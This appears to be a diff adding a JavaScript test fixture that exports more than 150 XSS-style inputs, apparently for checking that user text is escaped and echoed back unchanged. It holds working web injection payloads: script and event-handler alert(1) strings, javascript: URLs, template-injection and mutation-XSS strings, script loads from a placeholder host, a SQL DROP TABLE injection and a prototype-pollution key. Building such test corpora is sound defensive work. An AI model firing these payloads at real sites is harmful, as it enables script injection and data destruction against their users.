@@ -1,0 +1,80 @@
+/** What attackers type, in kinds: it is text, and comes back as typed. More than 150, as promised (quality 24). */
+const scripts = [
+  '<script>alert(1)</script>',
+  '<ScRiPt>alert(1)</sCrIpT>',
+  '<script src=//x.example/a.js></script>',
+  '</script><script>alert(1)</script>',
+  '<script type=module>import("//x.example")</script>',
+  '<script>alert`1`</script>',
+  '<<script>alert(1)//<</script>',
+  '<script/x>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '</style><script>alert(1)</script>',
+  '--><script>alert(1)</script>',
+  ']]><script>alert(1)</script>',
+];
+const tags = [
+  'img',
+  'svg',
+  'body',
+  'iframe',
+  'video',
+  'audio',
+  'input',
+  'details',
+  'marquee',
+  'object',
+  'embed',
+  'math',
+  'a',
+  'div',
+  'form',
+  'select',
+  'style',
+  'link',
+  'meta',
+  'base',
+];
+const handlers = [
+  'onerror',
+  'onload',
+  'onfocus',
+  'onmouseover',
+  'ontoggle',
+  'onstart',
+  'onpointerenter',
+];
+const withHandlers = tags.flatMap((tag) =>
+  handlers.map((on) => `<${tag} src=x ${on}=alert(1) autofocus open>`),
+);
+const urls = [
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  'javascript:alert(1)',
+];
+const others = [
+  '"><img src=x onerror=alert(1)>',
+  "'><img src=x onerror=alert(1)>",
+  '" onmouseover="alert(1)',
+  `\${alert(1)}`,
+  '{{constructor.constructor("alert(1)")()}}',
+  '{{7*7}}',
+  '<%= 7*7 %>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '\\u003cscript\\u003ealert(1)',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '\u2028alert(1)\u2029',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  "'; drop table comment; --",
+  '{"$ne": null}',
+  '__proto__',
+];
+
+export const xssCorpus = [...scripts, ...withHandlers, ...urls, ...others];
